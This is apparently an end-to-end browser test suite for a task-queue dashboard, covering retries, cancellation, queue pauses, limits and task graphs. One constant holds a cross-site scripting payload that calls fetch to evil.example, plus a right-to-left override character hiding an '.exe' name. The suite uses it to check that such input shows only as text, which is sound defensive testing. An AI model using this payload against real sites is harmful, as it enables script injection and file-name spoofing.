package io.kairos.server.wiring;

import static io.kairos.server.browser.BrowserSession.button;
import static io.kairos.server.wiring.DashboardNode.NARROW;
import static io.kairos.server.wiring.DashboardNode.WIDE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.kairos.client.Graph;
import io.kairos.client.HandlerChange;
import io.kairos.client.TaskRequest;
import io.kairos.client.queue.HandlerPause;
import io.kairos.client.queue.QueueLimit;
import io.kairos.client.task.OnFailure;
import io.kairos.client.task.RetryPolicy;
import io.kairos.client.task.TaskId;
import io.kairos.client.task.TaskState;
import io.kairos.client.worker.Worker;
import io.kairos.server.browser.BrowserSession;
import java.net.URLEncoder;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.AutoClose;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.openqa.selenium.By;
import org.openqa.selenium.Keys;

/**
 * The dashboard in two browsers, as people use it for tasks and queues: one of an operator, one of
 * somebody who may only read. The windows are as wide as those of a computer and of a telephone.
 */
@Timeout(240)
class BrowserEndToEndTest {
  private static final int LARGEST_PAYLOAD = 1_000_000;

  /** Most clicks from the overview until a failed job runs again. */
  private static final int CLICKS = 3;

  /** A picture that runs a script, and the end of a name turned around. */
  private static final String HOSTILE =
      "<img src=x onerror=\"document.title='owned';fetch('https://evil.example/')\">\u202Egnp.exe";

  private static final String SHOWN =
      "<img src=x onerror=\"document.title='owned';fetch('https://evil.example/')\">‹U+202E›gnp.exe";

  /** The same for a script. */
  private static final String QUOTED = "'" + HOSTILE.replace("'", "\\'") + "'";

  private static final String LENGTH_OF_PAYLOAD =
      "return [...document.querySelectorAll('main pre k-text bdi')].at(-1).textContent.length";
  private static final String BEGIN_OF_PAYLOAD =
      "return [...document.querySelectorAll('main pre k-text bdi')].at(-1).textContent.slice(0, 200)";

  @AutoClose private static DashboardNode node;
  private static BrowserSession operator;
  private static BrowserSession guest;

  @BeforeAll
  static void start() {
    node = DashboardNode.start();
    operator = node.browser(DashboardNode.OPERATOR);
    guest = node.browser(DashboardNode.GUEST);
  }

  @AfterEach
  void no_page_has_done_what_it_must_not() {
    // Tests read the faults that they expect.
    assertThat(operator.faults()).isEmpty();
    assertThat(guest.faults()).isEmpty();
  }

  /** Which job failed last night, and why; run it again. */
  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void the_job_that_has_failed_is_run_again_with_few_clicks(int width) {
    String handler = "nightly-" + width;
    List<TaskId> ids =
        node.failed(
            "the disk of host-7 is full",
            TaskRequest.to(handler).payload("{\"report\": 1}"),
            TaskRequest.to(handler).payload("{\"report\": 2}"));
    operator.resize(width);

    operator.show("/ui/");
    By row = By.xpath("//k-failure-table//tr[.//a[normalize-space()='%s']]".formatted(handler));
    operator.see(row);
    assertThat(String.join(" ", operator.texts(row)))
        .contains("java.lang.IllegalStateException", "the disk of host-7 is full", "2");
    operator.click(By.xpath("//tr[.//a[normalize-space()='" + handler + "']]//button"));
    operator.read("dialog[open]", "2 tasks", "of handler " + handler);
    assertThat(operator.barriers()).isEmpty();
    operator.confirm("Run 2 tasks again");

    assertThat(operator.clicks()).isLessThanOrEqualTo(CLICKS);
    operator.read(".said", "2 tasks put back");
    operator.gone(row);
    try (Worker _ = node.worker(handler, (_, _) -> {})) {
      ids.forEach(id -> node.await(id, TaskState.SUCCEEDED));
    }
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_task_that_has_failed_for_good_is_found_from_the_overview_and_run_again(int width) {
    String handler = "invoice-" + width;
    AtomicBoolean mended = new AtomicBoolean();
    operator.resize(width);
    try (Worker _ =
        node.worker(
            handler,
            (_, _) -> {
              if (!mended.get()) {
                throw new IllegalStateException("the printer is on fire");
              }
            })) {
      TaskId id =
          node.client()
              .schedule(
                  TaskRequest.to(handler)
                      .payload("{\"order\": 7}")
                      .retryPolicy(RetryPolicy.attempts(1))
                      .build());
      node.await(id, TaskState.DEAD);

      operator.show("/ui/");
      operator.click(
          By.xpath(
              "//k-failure-table//tr[.//a[normalize-space()='%s']]//td[@data-label='Tasks']/a"
                  .formatted(handler)));
      operator.click(By.cssSelector("main table a[href='/ui/tasks/" + id + "']"));
      operator.read("main", "Attempt 1 failed", "IllegalStateException", "the printer is on fire");
      operator.press("Show payload");
      operator.read("main pre", "\"order\": 7");
      mended.set(true);
      operator.press("Run again…");
      operator.confirm("Run 1 task again");

      operator.read("main .life", "Attempt 1 failed", "Due again", "Attempt 1 began", "succeeded");
      assertThat(operator.barriers()).isEmpty();
    }
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void tasks_are_searched_and_those_that_match_are_cancelled_as_counted(int width) {
    String handler = "thumbnail-" + width;
    for (int i = 0; i < 3; i++) {
      node.client()
          .schedule(
              TaskRequest.to(handler)
                  .collection("batch-" + i / 2)
                  .delay(Duration.ofDays(1))
                  .build());
    }
    operator.resize(width);
    operator.show("/ui/tasks");
    operator.fill("handler", handler);
    operator.press("Search");
    operator.read("main h2", "3 newest that match");
    assertThat(operator.place()).isEqualTo("/ui/tasks?handler=" + handler);
    operator.click(By.xpath("//summary[normalize-space()='More filters']"));
    operator.fill("collection", "batch-0");
    operator.press("Search");
    operator.read("main h2", "2 newest that match");

    operator.press("Cancel…");
    operator.read("dialog[open]", "2 tasks", "collection batch-0");
    operator.confirm("Cancel 2 tasks");

    operator.read(".said", "2 tasks cancelled");
    operator.show("/ui/tasks?state=CANCELLED&handler=" + handler);
    operator.read("main h2", "2 newest that match");
    operator.show("/ui/tasks?state=NEW&handler=" + handler);
    operator.read("main h2", "1 newest that match");
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_task_that_waits_is_run_now(int width) {
    String handler = "reminder-" + width;
    TaskId id =
        node.client().schedule(TaskRequest.to(handler).delay(Duration.ofMinutes(130)).build());
    operator.resize(width);
    operator.show("/ui/tasks/" + id);
    operator.read("main .life", "Stored", "by operator", "Due", "in 2 h");

    operator.press("Run now");

    operator.read("main .life", "Due", "waits for a worker of " + handler);
    assertThat(operator.sees(button("Run now"))).isFalse();
    try (Worker _ = node.worker(handler, (_, _) -> {})) {
      operator.read("main .life", "Attempt 1 began", "Ended", "succeeded");
    }
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_queue_that_one_browser_pauses_is_shown_paused_in_another_that_shows_it(int width) {
    String handler = "export-" + width;
    node.client().schedule(TaskRequest.to(handler).delay(Duration.ofHours(1)).build());
    operator.resize(width);
    guest.resize(width);
    By note = By.xpath("//section[h2='Pauses']//*[text()='until the move is over']");
    guest.show("/ui/handlers/" + handler);
    assertThat(guest.sees(note)).isFalse();

    operator.show("/ui/handlers/" + handler);
    operator.press("Pause…");
    operator.fill("note", "until the move is over");
    operator.confirm("Pause");

    operator.see(note);
    guest.see(note);
    assertThat(guest.sees(button("Resume"))).isFalse();
    assertThat(guest.barriers()).isEmpty();
    operator.press("Resume…");
    operator.confirm("Resume");
    operator.gone(note);
    guest.gone(note);
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void the_limits_of_a_queue_are_changed(int width) {
    String handler = "upload-" + width;
    node.client().handlers().limit(new QueueLimit(handler, 50, 100, null, null, 0));
    operator.resize(width);
    operator.show("/ui/handlers/" + handler);
    operator.read("main section", "Queues with limits", "0 of 100");

    operator.click(By.xpath("//section[.//h2='Queues with limits']//td//button"));
    operator.fill("maxRunning", "7");
    operator.fill("perSecond", "2.5");
    operator.confirm("Set limits");

    operator.read("main section", "Queues with limits", "0 of 7", "2.5");
    operator.show("/ui/handlers");
    operator.see(
        By.xpath(
            "//tr[.//a[normalize-space()='%s']]//*[normalize-space()='0 of 7']"
                .formatted(handler)));
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_handler_says_how_old_its_oldest_task_is_and_how_quick_it_is(int width) {
    String handler = "metered-" + width;
    try (Worker _ = node.worker(handler, (_, _) -> {})) {
      List<TaskId> ids =
          node.client().schedule(Collections.nCopies(12, TaskRequest.to(handler).build()));
      ids.forEach(id -> node.await(id, TaskState.SUCCEEDED));
    }
    node.client()
        .schedule(TaskRequest.to(handler).runAt(Instant.now().minusSeconds(3 * 3600)).build());
    operator.resize(width);
    operator.show("/ui/handlers");
    Replicas.await(
        "rates", () -> operator.fetched("/v1/handlers/" + handler).contains("\"ended\":0."));

    operator.show("/ui/handlers/" + handler);

    operator.read("main .tiles", "Oldest due for", "3 h", "Begun", " /s", "Ended");
    for (String what : List.of("Begun", "Ended")) {
      operator.see(
          By.xpath(
              "//*[contains(@class, 'tile')][span='%s'][strong and not(strong='0 /s')]"
                  .formatted(what)));
    }
    operator.show("/ui/handlers");
    operator.see(
        By.xpath("//tr[.//a[normalize-space()='%s']][contains(., '3 h')]".formatted(handler)));
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_key_that_its_head_blocks_goes_on_when_the_head_is_skipped_or_tried_again(int width) {
    String handler = "orders-" + width;
    node.client().handlers().change(HandlerChange.of(handler).blocksWhenDead(true));
    List<TaskId> heads =
        node.failed(
            "the address is missing",
            TaskRequest.to(handler).key("customer 4"),
            TaskRequest.to(handler).key("customer 5"));
    List<TaskId> behind =
        node.client()
            .schedule(
                List.of(
                    TaskRequest.to(handler).key("customer 4").build(),
                    TaskRequest.to(handler).key("customer 5").build()));
    operator.resize(width);
    operator.show("/ui/handlers/" + handler);
    operator.read("main", "Stuck ordering keys", "customer", "the address is missing");
    operator.see(inStuckKey("customer 4", "//*[text()='blocked']"));
    assertThat(operator.barriers()).isEmpty();

    operator.click(inStuckKey("customer 4", "//button[starts-with(normalize-space(), 'Skip')]"));
    operator.read("dialog[open]", "Behind it 1 waits", "customer 4", heads.getFirst().toString());
    operator.confirm("Skip 1 task");

    operator.read(".said", "The head is skipped.");
    operator.gone(inStuckKey("customer 4", ""));
    try (Worker _ = node.worker(handler, (_, _) -> {})) {
      node.await(behind.getFirst(), TaskState.SUCCEEDED);
      assertThat(node.client().get(behind.getLast()).state()).isEqualTo(TaskState.BLOCKED);
      operator.click(inStuckKey("customer 5", "//button[starts-with(normalize-space(), 'Retry')]"));
      operator.confirm("Retry 1 task");
      operator.read(".said", "The head is tried again.");
      node.await(heads.getLast(), TaskState.SUCCEEDED);
      node.await(behind.getLast(), TaskState.SUCCEEDED);
    }
    assertThat(node.client().get(heads.getFirst()).state()).isEqualTo(TaskState.DEAD);
    operator.gone(By.xpath("//h2[normalize-space()='Stuck ordering keys']"));
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void the_graph_of_a_task_is_drawn_walked_by_keys_and_cancelled_from_a_task_on(int width) {
    String handler = "graph-" + width;
    Graph graph = new Graph();
    Graph.Step load = graph.add(TaskRequest.to(handler).delay(Duration.ofDays(1)).build());
    Graph.Step check = graph.add(TaskRequest.to(handler).build()).after(load);
    Graph.Step publish = graph.add(TaskRequest.to(handler + "/publish").build());
    publish.after(load, OnFailure.BLOCK).after(check, OnFailure.CONTINUE);
    graph.add(TaskRequest.to(handler).build()).after(publish);
    List<TaskId> ids = node.client().schedule(graph.tasks());
    operator.resize(width);
    operator.show("/ui/tasks/" + ids.get(1));
    operator.read("main .life", "Waits for its predecessors");
    operator.read("main", "Graph", "4 tasks that wait for each other");
    operator.see(
        inGraph(ids.getFirst(), "[starts-with(@aria-label, '%s, new,')]".formatted(handler)));
    operator.see(inGraph(ids.get(1), "[@aria-current='page'][contains(@aria-label, 'awaiting')]"));
    assertThat(operator.script("return document.querySelectorAll('.graph .open').length"))
        .isEqualTo(4L);
    assertThat(operator.barriers()).isEmpty();

    operator.click(By.xpath("//k-graph//summary"));
    operator.read("k-graph table", "graph", "awaiting", "goes on waiting when it fails");
    operator.read("k-graph table", "waits for any end of it");
    assertThat(operator.barriers()).isEmpty();
    operator.see(inGraph(ids.get(2), ""));
    operator.script(
        "document.querySelector(\".graph a[href$='%s']\").focus(); return true"
            .formatted(ids.get(2)));
    operator.type(Keys.ENTER);
    operator.read("main h1", handler + "/publish");
    assertThat(operator.place()).isEqualTo("/ui/tasks/" + ids.get(2));

    guest.resize(width);
    guest.show("/ui/tasks/" + ids.get(2));
    guest.see(inGraph(ids.getFirst(), ""));
    assertThat(guest.sees(button("Cancel this and what waits for it"))).isFalse();
    operator.press("Cancel this and what waits for it");
    operator.read("dialog[open]", "2 tasks", "have not ended");
    assertThat(operator.barriers()).isEmpty();
    operator.confirm("Cancel 2 tasks");
    operator.read(".said", "2 tasks cancelled");
    operator.see(inGraph(ids.getLast(), "[contains(@aria-label, 'cancelled')]"));
    operator.gone(button("Cancel this and what waits for it"));
    assertThat(node.client().get(ids.get(1)).state()).isEqualTo(TaskState.AWAITING);

    operator.script(
        """
        const graph = document.querySelector('k-graph');
        graph.graph = { tasks: [{ id: graph.task, handler: %s, state: '%s' }, { id: 'b', handler: 'b' }],
          edges: [{ predecessor: graph.task, successor: 'b', onFailure: '%s' }] };
        return true;
        """
            .formatted(QUOTED, "<b>state</b>", "<b>failure</b>"));
    operator.see(By.xpath("//*[@class='graph']//*[contains(@aria-label, '‹U+202E›gnp.exe')]"));
    assertHarmless();
    assertThat(operator.script("return document.querySelectorAll('.graph b').length"))
        .isEqualTo(0L);
  }

  /** A box of the drawing. */
  private static By inGraph(TaskId id, String what) {
    return By.xpath("//*[@class='graph']//*[@href='/ui/tasks/%s']%s".formatted(id, what));
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void of_a_large_graph_the_nearest_tasks_are_drawn_and_all_are_listed(int width) {
    Graph graph = new Graph();
    Graph.Step first = graph.add(TaskRequest.to("W".repeat(128)).delay(Duration.ofDays(1)).build());
    for (int i = 0; i < 80; i++) {
      graph.add(TaskRequest.to("fan-" + width).build()).after(first);
    }
    List<TaskId> ids = node.client().schedule(graph.tasks());
    operator.resize(width);

    operator.show("/ui/tasks/" + ids.getLast());

    operator.read("k-graph", "The 60 nearest tasks are drawn; 21 more are in the list");
    operator.see(inGraph(ids.getFirst(), ""));
    operator.see(inGraph(ids.getLast(), "[@aria-current]"));
    assertThat(operator.script("return document.querySelectorAll('.graph a').length"))
        .isEqualTo(60L);
    operator.click(By.xpath("//k-graph//summary"));
    operator.see(By.cssSelector("k-graph tbody tr:nth-child(81)"));
    assertThat(operator.barriers()).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_batch_is_followed_and_what_is_left_of_it_cancelled(int width) throws Exception {
    String handler = "import-" + width;
    String batch =
        node.post(
                "/v1/batches",
                "{\"handler\": \"%s\", \"name\": \"rows-%s\"}".formatted(handler, width))
            .at("/batch/id")
            .asText();
    String task = "{\"handler\": \"%s\", \"batch\": \"%s\"".formatted(handler, batch);
    String first = node.post("/v1/tasks", task + "}").path("id").asText();
    for (int i = 0; i < 3; i++) {
      var _ = node.post("/v1/tasks", task + ", \"delay\": \"86400s\"}");
    }
    try (Worker _ = node.worker(handler, (_, _) -> {})) {
      node.await(TaskId.of(first), TaskState.SUCCEEDED);
    }
    operator.resize(width);
    operator.show("/ui/batches");
    operator.fill("handler", handler);
    operator.press("Search");
    operator.read("main table", "rows-" + width, handler, "open", "25 %, 1 of 4 ended");
    assertThat(operator.barriers()).isEmpty();

    operator.click(By.linkText("rows-" + width));
    operator.read("main .tiles", "Tasks", "4", "Unfinished", "3", "Succeeded", "1");
    guest.resize(width);
    guest.show("/ui/batches/" + batch);
    guest.read("main .tiles", "Unfinished", "3");
    assertThat(guest.sees(button("Cancel…"))).isFalse();
    operator.press("Cancel…");
    operator.read("dialog[open]", "3 tasks", "have not ended");
    operator.confirm("Cancel 3 tasks");

    operator.read(".said", "3 tasks cancelled");
    operator.read("main .facts", "cancelled", "100 %, 4 of 4 ended", "Closed", "Ended");
    assertThat(operator.barriers()).isEmpty();
    operator.click(By.xpath("//a[contains(@class, 'tile')][span='Cancelled']"));
    operator.read("main h2", "3 newest that match");
    assertThat(operator.barriers()).isEmpty();
    operator.show("/ui/tasks/" + first);
    operator.click(By.linkText(batch));
    operator.read("main h1", "rows-" + width);
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void a_limit_by_key_is_set_shows_its_use_and_is_removed(int width) throws Exception {
    String handler = "called-" + width;
    String pattern = "api-" + width + ":*";
    operator.resize(width);
    operator.show("/ui/limits");
    operator.press("Set a limit…");
    operator.fill("name", pattern);
    operator.fill("maxRunning", "1");
    assertThat(operator.barriers()).isEmpty();
    operator.confirm("Set 1 limit");
    operator.read("main table", pattern, "1 for each name");
    CountDownLatch end = new CountDownLatch(1);
    try (Worker _ = node.worker(handler, (_, _) -> end.await())) {
      String task =
          "{\"handler\": \"%s\", \"limits\": [\"api-%s:stripe\"]}".formatted(handler, width);
      List<TaskId> ids = new ArrayList<>();
      for (int i = 0; i < 2; i++) {
        ids.add(TaskId.of(node.post("/v1/tasks", task).path("id").asText()));
      }
      operator.see(
          inLimit(pattern, "[td[@data-label='Waiting']='1'][td[@data-label='Names']='1']"));
      operator.click(By.linkText(pattern));
      operator.read("main section:last-of-type", "Names for which", pattern, ":stripe", "1 of 1");
      assertThat(operator.barriers()).isEmpty();
      guest.resize(width);
      guest.show("/ui/limits");
      guest.see(inLimit(pattern, ""));
      assertThat(guest.sees(button("Set a limit…"))).isFalse();
      assertThat(guest.sees(button("Remove…"))).isFalse();

      operator.click(inLimit(pattern, "//button[starts-with(normalize-space(), 'Remove')]"));
      operator.read("dialog[open]", pattern, "begin: 1 now");
      operator.confirm("Remove 1 limit");
      operator.gone(inLimit(pattern, ""));
      end.countDown();
      ids.forEach(id -> node.await(id, TaskState.SUCCEEDED));
    }
  }

  private static By inLimit(String pattern, String what) {
    return By.xpath(
        "//main//tr[td[@data-label='Limit'][normalize-space()='%s']]%s".formatted(pattern, what));
  }

  private static By inStuckKey(String key, String what) {
    return By.xpath(
        "//section[h2='Stuck ordering keys']//tr[td[@data-label='Key'][normalize-space()='%s']]%s"
            .formatted(key, what));
  }

  @ParameterizedTest
  @ValueSource(ints = {WIDE, NARROW})
  void hostile_names_errors_and_payloads_are_shown_as_text(int width) {
    String handler = "hostile-" + width;
    String payload = HOSTILE + "x".repeat(LARGEST_PAYLOAD - HOSTILE.length() - 2);
    assertThat(payload.getBytes(UTF_8)).hasSize(LARGEST_PAYLOAD);
    List<TaskId> ids =
        node.failed(
            HOSTILE + '\0',
            TaskRequest.to(handler).payload(payload).key(HOSTILE),
            TaskRequest.to(handler).payload("\0" + HOSTILE).key(HOSTILE));
    node.client().handlers().setPause(HandlerPause.pause(handler).because(HOSTILE));
    operator.resize(width);
    String escaped = URLEncoder.encode(HOSTILE, UTF_8).replace("+", "%20");

    operator.show("/ui/tasks/" + ids.getLast());
    operator.press("Show payload");
    operator.read("main pre", "00 3c 69 6d 67", ".<img src=x oner");
    assertHarmless();
    operator.show("/ui/tasks/" + ids.getFirst());
    operator.read("main .life", "Attempt 1 failed", SHOWN);
    operator.press("Show payload");
    operator.press("show all 999,998 characters");
    Replicas.await(
        "the payload",
        () -> operator.script(LENGTH_OF_PAYLOAD) instanceof Long length && length > 1_000_000);
    assertThat((String) operator.script(BEGIN_OF_PAYLOAD)).startsWith(SHOWN + "xxx");
    assertHarmless();
    for (String page :
        List.of(
            "/ui/failures",
            "/ui/handlers/" + handler,
            "/ui/tasks?handler=" + handler,
            "/ui/tasks?handler=" + handler + "&key=" + escaped)) {
      operator.show(page);
      operator.read("main", SHOWN);
      assertHarmless();
    }
    for (String page : List.of("tasks", "handlers", "schedules")) {
      operator.show("/ui/" + page + "/" + escaped);
      operator.read("main h1", SHOWN);
      assertHarmless();
    }
    operator.show("/ui/tasks?handler=" + escaped);
    assertHarmless();
    assertThat(operator.faults("status of 40[04]")).isEmpty();
    node.client().handlers().endPause(handler);
  }

  /** What a name or payload might have made is not there, and the page is as wide as the window. */
  private static void assertHarmless() {
    assertThat(operator.script("return document.querySelectorAll('main img, main script').length"))
        .isEqualTo(0L);
    assertThat(operator.script("return document.title")).isNotEqualTo("owned");
    assertThat(
            operator.script(
                "return document.documentElement.scrollWidth > document.documentElement.clientWidth"))
        .isEqualTo(false);
  }
}
